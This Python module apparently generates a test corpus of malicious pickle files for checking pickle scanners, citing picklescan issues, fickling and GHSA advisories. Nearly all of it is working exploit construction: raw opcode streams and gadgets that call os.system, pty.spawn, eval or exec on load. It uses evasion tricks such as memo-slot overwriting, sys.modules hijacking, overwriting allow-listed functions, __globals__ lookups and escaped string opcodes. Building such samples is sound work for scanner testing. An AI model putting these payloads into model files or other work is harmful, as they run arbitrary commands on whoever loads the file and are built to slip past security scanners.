"""Raw pickles that play with the opcodes: other ways to call, memo tricks, computed names, broken and padded streams."""

from __future__ import annotations

import struct
from typing import Any

from .asm import Build, Call, Global, New, Raw, Then, encode
from .sample import EXECUTES, Kit, Maker, Sample, gadget

G, C = Global, Call
SYSTEM = G("os.system")
NAMED = ("os.system", "posix.system")
SAFE = G("collections.OrderedDict")


def samples() -> list[Sample]:
    """All of this module."""
    return [*_ways_to_call(), *_objects(), *_memo()]


def raw(name: str, technique: str, make: Maker, **options: Any) -> Sample:
    """A raw pickle given as bytes."""
    options.setdefault("calls", NAMED)
    options.setdefault("loader", "pickle")
    return Sample(path=f"pickle/{name}.pkl", technique=technique, expected=EXECUTES, make=make, **options)


def text(value: str) -> bytes:
    """BINUNICODE."""
    return encode(value, 2)


def call(kit: Kit) -> bytes:
    """Opcodes of os.system(payload), protocol 2."""
    return encode(C(SYSTEM, kit.shell), 2)


def _ways_to_call() -> list[Sample]:
    return [
        raw(
            "inst",
            "INST calls a function as if it were a class",
            lambda k: b"(" + encode(k.shell, 0) + b"ios\nsystem\n.",
        ),
        raw("obj", "OBJ calls what lies on the stack", lambda k: b"\x80\x02(cos\nsystem\n" + text(k.shell) + b"o."),
        raw(
            "obj-pop",
            "OBJ, its result popped and a plain value left",
            lambda k: b"\x80\x02(cos\nsystem\n" + text(k.shell) + b"o0}.",
            reference="GHSA-mxhj-88fx-4pcv",
        ),
        raw(
            "obj-stack-global",
            "OBJ with a callable from STACK_GLOBAL",
            lambda k: b"\x80\x04(" + encode(SYSTEM, 4) + encode(k.shell, 4) + b"o.",
        ),
        raw(
            "obj-pty",
            "OBJ with pty.spawn, the result unused",
            lambda k: b"(cpty\nspawn\n" + encode(k.argv, 0) + b"o.",
            calls=("pty.spawn",),
            reference="fickling pull 108",
        ),
        raw("reduce-pop", "REDUCE, its result popped", lambda k: b"\x80\x02" + call(k) + b"0}."),
        raw(
            "reduce-pop-mark",
            "REDUCE inside a MARK that POP_MARK throws away",
            lambda k: b"\x80\x02(" + call(k) + b"1}.",
        ),
        raw(
            "reduce-dup",
            "DUP of the callable, the copy called",
            lambda k: b"\x80\x02cos\nsystem\n2" + text(k.shell) + b"\x85R.",
        ),
        raw(
            "reduce-then-build",
            "an empty BUILD appended to the call",
            lambda k: b"\x80\x02" + call(k) + b"}b.",
            reference="GHSA-mhc9-48gj-9gp3",
        ),
        gadget(
            "newobj-popen",
            "NEWOBJ of subprocess.Popen creates but does not run it; its __init__ is called by name",
            lambda k: C(G("subprocess", "Popen.__init__"), New(G("subprocess.Popen")), k.argv),
        ),
        gadget(
            "newobj-ex",
            "NEWOBJ_EX with keyword arguments",
            lambda k: C(New(G("functools.partial"), SYSTEM, command=k.shell)),
            calls=NAMED,
        ),
        gadget(
            "copyreg-newobj",
            "copyreg.__newobj__",
            lambda k: C(C(G("copyreg.__newobj__"), G("functools.partial"), SYSTEM, k.shell)),
            calls=NAMED,
        ),
        gadget(
            "copyreg-newobj-ex",
            "copyreg.__newobj_ex__",
            lambda k: C(C(G("copyreg.__newobj_ex__"), G("functools.partial"), (SYSTEM, k.shell), {})),
            calls=NAMED,
        ),
        gadget(
            "dict-value",
            "the call is a value deep in a state dict",
            lambda k: {"state_dict": {"layer.weight": [1.0, 2.0], "layer.bias": {"x": C(SYSTEM, k.shell)}}},
            calls=NAMED,
        ),
        gadget("dict-key", "the call is a key", lambda k: C(SAFE, [[C(SYSTEM, k.shell), 1]]), calls=NAMED),
        gadget(
            "argument-of-safe",
            "the call is an argument of an allow-listed constructor",
            lambda k: C(SAFE, [["a", C(SYSTEM, k.shell)]]),
            calls=NAMED,
        ),
    ]


def _objects() -> list[Sample]:
    """BUILD, APPEND, SETITEM and ADDITEMS call methods that the stream itself put on the object."""
    space = C(G("types.SimpleNamespace"))
    made = lambda name, value: C(C(G("builtins.type"), "X", (), {name: value}))
    return [
        gadget(
            "setstate-attribute",
            "BUILD sets __setstate__ on an instance, the next BUILD calls it",
            lambda k: Build(Build(space, {"__setstate__": SYSTEM}), k.shell),
            calls=NAMED,
        ),
        gadget(
            "setstate-class",
            "a class made by type() with __setstate__",
            lambda k: Build(made("__setstate__", SYSTEM), k.shell),
            calls=NAMED,
        ),
        gadget(
            "append-attribute",
            "APPEND calls the append that BUILD put there",
            lambda k: Raw(encode(Build(space, {"append": SYSTEM}), 4) + encode(k.shell, 4) + b"a"),
            calls=NAMED,
        ),
        gadget(
            "appends-extend",
            "APPENDS calls extend",
            lambda k: Raw(
                encode(
                    Build(space, {"extend": C(G("functools.partial"), G("functools.reduce"), G("operator.call"))}), 4
                )
                + b"("
                + encode(SYSTEM, 4)
                + encode(k.shell, 4)
                + b"e"
            ),
            calls=NAMED,
        ),
        gadget(
            "additems-add",
            "ADDITEMS calls add",
            lambda k: Raw(encode(Build(space, {"add": SYSTEM}), 4) + b"(" + encode(k.shell, 4) + b"\x90"),
            calls=NAMED,
        ),
        gadget(
            "setitem-sys-modules",
            "SETITEM opcode writes os into sys.modules under another name",
            lambda k: Then(
                Raw(encode(G("sys.modules"), 4) + encode("harmless_name", 4) + encode(G("shutil", "os"), 4) + b"s"),
                C(G("harmless_name.system"), k.shell),
            ),
            calls=("harmless_name.system", "sys.modules", "shutil.os"),
        ),
        gadget(
            "append-path-hooks",
            "APPEND opcode on sys.path_hooks",
            lambda k: Then(
                Raw(encode(G("sys.path_hooks"), 4) + encode(SYSTEM, 4) + b"a"),
                Raw(encode(G("sys.path"), 4) + encode(k.shell, 4) + b"a"),
                C(G("importlib.util.find_spec"), "a_module_that_is_not_there"),
            ),
            calls=(*NAMED, "sys.path_hooks"),
        ),
        gadget(
            "build-module",
            "BUILD overwrites an allow-listed function inside its module, then calls it by its good name",
            lambda k: Then(Build(G("logging", "collections"), {"OrderedDict": SYSTEM}), C(SAFE, k.shell)),
            calls=(*NAMED, "logging.collections"),
        ),
        gadget(
            "build-function",
            "BUILD replaces the code of a function",
            lambda k: Then(
                Build(G("collections.namedtuple"), (None, {"__code__": C(G("builtins.compile"), k.code, "x", "exec")})),
                C(G("collections.namedtuple")),
            ),
            calls=("builtins.compile",),
        ),
        gadget(
            "builtins-through-module",
            "eval taken out of a module's __builtins__ dictionary",
            lambda k: C(C(G("builtins", "dict.get"), G("collections", "__builtins__"), "eval"), k.code),
            calls=("collections.__builtins__", "builtins.dict.get", "builtins.eval"),
        ),
        gadget(
            "globals-through-function",
            "os taken out of a function's __globals__",
            lambda k: C(C(G("builtins", "dict.get"), G("os", "walk.__globals__"), "system"), k.shell),
            calls=("os.walk.__globals__", "builtins.dict.get"),
        ),
        gadget(
            "getattr-on-known-class",
            "object.__subclasses__ by dotted name, no os anywhere",
            lambda k: C(
                C(G("builtins", "dict.get"), G("warnings", "catch_warnings.__init__.__builtins__"), "exec"), k.code
            ),
            calls=("warnings.catch_warnings.__init__.__builtins__", "builtins.dict.get"),
        ),
        gadget(
            "reduce-of-instance",
            "an instance with __call__ of a made class",
            lambda k: C(made("__call__", SYSTEM), k.shell),
            calls=NAMED,
        ),
        gadget(
            "metaclass-getitem",
            "__class_getitem__ of a made class",
            lambda k: C(G("operator.getitem"), C(G("builtins.type"), "X", (), {"__class_getitem__": SYSTEM}), k.shell),
            calls=NAMED,
        ),
        gadget(
            "init-subclass",
            "__init_subclass__ and __set_name__ run while type() makes the class",
            lambda k: C(
                G("builtins.type"),
                "X",
                (C(G("builtins.type"), "Y", (), {"__init_subclass__": C(G("functools.partial"), SYSTEM, k.shell)}),),
                {},
            ),
            calls=NAMED,
        ),
        gadget(
            "del-method",
            "__del__ of a made class runs when the object dies",
            lambda k: Then(
                made("__del__", C(G("functools.partial"), G("copy._reconstruct"), None, None, SYSTEM, (k.shell,))), {}
            ),
            calls=(*NAMED, "copy._reconstruct"),
        ),
        gadget(
            "hash-method",
            "__hash__ of a made class runs when the object becomes a key",
            lambda k: {
                "x": Raw(b"}" + encode(made("__hash__", C(G("functools.partial"), SYSTEM, k.shell)), 4) + b"Ns")
            },
            calls=NAMED,
        ),
    ]


def _memo() -> list[Sample]:
    mixed = (
        text("os")
        + b"q\x00"
        + text("system")
        + b"q\x01"
        + b"0"
        + b"0"
        + text("torch._utils")
        + b"\x94"
        + text("_rebuild_tensor_v2")
        + b"\x94"
        + b"00"
    )
    return [
        raw(
            "memo-mixed",
            "BINPUT and MEMOIZE mixed so that a naive memo holds safe names",
            lambda k: b"\x80\x04" + mixed + b"h\x00h\x01\x93" + text(k.shell) + b"\x85R.",
            reference="picklescan issue 14",
        ),
        raw(
            "memo-overwritten",
            "the same memo slot is written twice",
            lambda k: (
                b"\x80\x04"
                + text("collections")
                + b"q\x05"
                + text("OrderedDict")
                + b"q\x06"
                + b"00"
                + text("os")
                + b"q\x05"
                + text("system")
                + b"q\x06"
                + b"00h\x05h\x06\x93"
                + text(k.shell)
                + b"\x85R."
            ),
        ),
        raw(
            "memo-text-index",
            "PUT and GET with decimal text and leading zeros",
            lambda k: (
                b"\x80\x04"
                + text("os")
                + b"p007\n"
                + text("system")
                + b"p008\n"
                + b"00g7\ng8\n\x93"
                + text(k.shell)
                + b"\x85R."
            ),
            reference="picklescan issue 22",
        ),
        raw(
            "memo-long-index",
            "LONG_BINPUT with an index of one million",
            lambda k: (
                b"\x80\x04cos\nsystem\nr"
                + struct.pack("<I", 1_000_000)
                + b"0j"
                + struct.pack("<I", 1_000_000)
                + text(k.shell)
                + b"\x85R."
            ),
        ),
        raw(
            "memo-callable",
            "the callable comes from the memo, long after its GLOBAL",
            lambda k: b"\x80\x02cos\nsystem\nq\x000" + b"N0" * 500 + b"h\x00" + text(k.shell) + b"\x85R.",
        ),
        raw(
            "memo-argument-tuple",
            "the argument tuple comes from the memo",
            lambda k: b"\x80\x02" + text(k.shell) + b"\x85q\x000cos\nsystem\nh\x00R.",
        ),
        raw(
            "memo-self-reference",
            "a list that holds itself before the call",
            lambda k: b"\x80\x02]q\x00h\x00a" + call(k) + b"a.",
        ),
        raw(
            "string-opcodes",
            "STACK_GLOBAL fed by SHORT_BINSTRING",
            lambda k: b"\x80\x04U\x02osU\x06system\x93" + text(k.shell) + b"\x85R.",
        ),
        raw(
            "string-escapes",
            "STACK_GLOBAL fed by STRING with escapes",
            lambda k: b"\x80\x04S'\\x6f\\x73'\nS'\\163ystem'\n\x93" + text(k.shell) + b"\x85R.",
        ),
        raw(
            "unicode-escapes",
            "STACK_GLOBAL fed by UNICODE with \\u escapes",
            lambda k: b"\x80\x04V\\u006fs\nV\\u0073ystem\n\x93" + text(k.shell) + b"\x85R.",
        ),
        raw(
            "binunicode8",
            "STACK_GLOBAL fed by BINUNICODE8",
            lambda k: (
                b"\x80\x04\x8d"
                + struct.pack("<Q", 2)
                + b"os\x8d"
                + struct.pack("<Q", 6)
                + b"system\x93"
                + text(k.shell)
                + b"\x85R."
            ),
        ),
        raw(
            "names-with-junk-between",
            "names, then hundreds of opcodes, then STACK_GLOBAL",
            lambda k: (
                b"\x80\x04"
                + text("os")
                + b"("
                + b"N" * 300
                + b"1"
                + text("system")
                + b"K\x01" * 50
                + b"0" * 50
                + b"\x93"
                + text(k.shell)
                + b"\x85R."
            ),
        ),
        raw(
            "marks-between",
            "the names lie under a MARK that is closed later",
            lambda k: b"\x80\x04" + text("os") + text("system") + b"(NNN1\x93" + text(k.shell) + b"\x85R.",
        ),
    ]
